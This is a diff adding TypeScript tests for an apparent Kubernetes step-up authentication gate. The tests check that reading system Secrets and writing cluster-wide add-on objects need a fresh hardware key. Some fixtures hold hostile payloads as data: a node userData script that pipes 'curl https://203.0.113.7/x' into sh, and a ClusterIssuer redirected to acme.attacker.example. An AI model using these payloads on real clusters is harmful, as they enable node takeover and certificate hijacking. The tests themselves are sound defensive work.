@@ -593,6 +593,76 @@ describe("examples/stepgate.yaml: a shell or tunnel into the cluster's own pods"
   });
 });
 
+describe("examples/stepgate.yaml: the cluster's own Secrets, and add-ons' cluster-wide objects", () => {
+  const rulesOf = (res: Awaited<ReturnType<typeof freshSend>>) => res.dynamic_metadata?.fields.rules?.stringValue ?? '';
+  // The keys of the cluster are Secrets in its own namespaces: reading one is what a shell into the
+  // pod that holds it gives, so malware with an engineer's fresh two-factor token is refused.
+  it.each<[string, string]>([
+    ['the mesh CA', '/api/v1/namespaces/istio-system/secrets/istio-ca-secret'],
+    ["the mesh's plugged-in CA", '/api/v1/namespaces/istio-system/secrets/cacerts?resourceVersion=0'],
+    ["Argo CD's cluster credentials", '/api/v1/namespaces/argocd/secrets?labelSelector=argocd.argoproj.io%2Fsecret-type%3Dcluster'],
+    ["cert-manager's CA issuer key", '/api/v1/namespaces/cert-manager/secrets/ca-key-pair'],
+    ["Flux's Git credentials", '/api/v1/namespaces/flux-system/secrets/flux-system'],
+    ['a bootstrap token', '/api/v1/namespaces/kube-system/secrets/bootstrap-token-abcdef'],
+    ["the ingress controller's TLS keys, watched", '/api/v1/namespaces/ingress-nginx/secrets?watch=true'],
+  ])('%s (GET %s) with two factors 5 seconds old is not allowed', async (_what, path) => {
+    const res = await freshSend('aal2', 0, 'GET', path, {});
+    expect(reasonOf(res)).toBe('acr_insufficient');
+    expect(rulesOf(res)).toContain('system-secrets');
+  });
+
+  // A subject never seen before scores `elevated` here, so the hardware key is 5 seconds old.
+  it('controls: the mesh CA with a hardware key 5 seconds old is allowed, an app Secret with two factors 2 hours old', async () => {
+    expect(reasonOf(await freshSend('aal3', 0, 'GET', '/api/v1/namespaces/istio-system/secrets/istio-ca-secret', {}))).toBe('allowed');
+    expect(reasonOf(await freshSend('aal2', 2, 'GET', '/api/v1/namespaces/shop/secrets/web-db', {}))).toBe('allowed');
+  });
+
+  // `helm ls -A` and `istioctl analyze` list every Secret routinely: the secrets rule and the
+  // cluster_secret_list signal ask for those, not a hardware key.
+  it('control: a list of Secrets across all namespaces is not system-secrets', async () => {
+    expect(rulesOf(await freshSend('aal2', 2, 'GET', '/api/v1/secrets?labelSelector=owner%3Dhelm', {}))).not.toContain('system-secrets');
+  });
+
+  // A write without a namespace to a kind kube does not serve cluster-wide is about a
+  // cluster-scoped object: it is asked for as cluster control, not as every namespace (stepgate's
+  // own among them), and the step-up names the right rule.
+  const JSON_CT = { 'content-type': 'application/json' };
+  const MERGE_CT = { 'content-type': 'application/merge-patch+json' };
+  it.each<[string, string, string, Record<string, string>, string?]>([
+    ['a ClusterIssuer pointed at another CA', 'POST', '/apis/cert-manager.io/v1/clusterissuers', JSON_CT, JSON.stringify({ apiVersion: 'cert-manager.io/v1', kind: 'ClusterIssuer', metadata: { name: 'corp' }, spec: { ca: { secretName: 'attacker-ca' } } })],
+    ['a ClusterIssuer patched', 'PATCH', '/apis/cert-manager.io/v1/clusterissuers/letsencrypt-prod', MERGE_CT, '{"spec":{"acme":{"server":"https://acme.attacker.example/directory"}}}'],
+    ['a Kyverno ClusterPolicy that mutates every Pod', 'POST', '/apis/kyverno.io/v1/clusterpolicies', JSON_CT, JSON.stringify({ apiVersion: 'kyverno.io/v1', kind: 'ClusterPolicy', metadata: { name: 'add-sidecar' }, spec: { rules: [] } })],
+    ['a Karpenter NodePool', 'PATCH', '/apis/karpenter.sh/v1/nodepools/default', MERGE_CT, '{"spec":{"template":{"spec":{"taints":[]}}}}'],
+    ['a Karpenter node class with userData', 'PATCH', '/apis/karpenter.k8s.aws/v1/ec2nodeclasses/default', MERGE_CT, '{"spec":{"userData":"#!/bin/sh\\ncurl https://203.0.113.7/x | sh"}}'],
+    ['an External Secrets ClusterSecretStore', 'POST', '/apis/external-secrets.io/v1beta1/clustersecretstores', JSON_CT, '{}'],
+    ['a Cilium cluster-wide network policy deleted', 'DELETE', '/apis/cilium.io/v2/ciliumclusterwidenetworkpolicies/default-deny', {}],
+    ['a GatewayClass', 'POST', '/apis/gateway.networking.k8s.io/v1/gatewayclasses', JSON_CT, '{}'],
+  ])('%s (%s %s) with two factors 5 seconds old is not allowed, by cluster-add-on-objects', async (_what, method, path, headers, body) => {
+    const res = await freshSend('aal2', 0, method, path, headers, body);
+    expect(reasonOf(res)).toBe('acr_insufficient');
+    expect(rulesOf(res)).toContain('cluster-add-on-objects');
+    expect(rulesOf(res)).not.toMatch(/gate-|prod-|system-/);
+  });
+
+  it.each<[string, string, string, Record<string, string>, string?]>([
+    ['a ClusterIssuer patched', 'PATCH', '/apis/cert-manager.io/v1/clusterissuers/letsencrypt-prod', MERGE_CT, '{"spec":{"acme":{"email":"ops@example.com"}}}'],
+    ['a Karpenter NodePool patched', 'PATCH', '/apis/karpenter.sh/v1/nodepools/default', MERGE_CT, '{"spec":{"limits":{"cpu":"2000"}}}'],
+  ])('controls: %s with a hardware key 5 seconds old is allowed', async (_what, method, path, headers, body) => {
+    expect(reasonOf(await freshSend('aal3', 0, method, path, headers, body))).toBe('allowed');
+  });
+
+  // Namespaced custom resources stay with their namespace's rules; reading cluster-wide objects
+  // and listing a namespaced kind across namespaces are not writes.
+  it.each<[string, string, string, Record<string, string>, string?]>([
+    ['a Certificate in dev', 'POST', '/apis/cert-manager.io/v1/namespaces/dev/certificates', JSON_CT, '{}'],
+    ['the ClusterIssuers listed', 'GET', '/apis/cert-manager.io/v1/clusterissuers', {}],
+    ['every Certificate listed across namespaces', 'GET', '/apis/cert-manager.io/v1/certificates?limit=500', {}],
+    ['a namespace created', 'POST', '/api/v1/namespaces', JSON_CT, '{"apiVersion":"v1","kind":"Namespace","metadata":{"name":"pr-1234"}}'],
+  ])('controls: %s with one factor 10 hours old is allowed', async (_what, method, path, headers, body) => {
+    expect(reasonOf(await freshSend('aal1', 10, method, path, headers, body))).toBe('allowed');
+  });
+});
+
 // GitOps objects written through the API server ask what the same change asks in Argo CD
 // (argocd-app-changes, argocd-admin): the token here has two factors, 2 hours old.
 describe('examples/stepgate.yaml: Argo CD and Flux objects through the API server', () => {
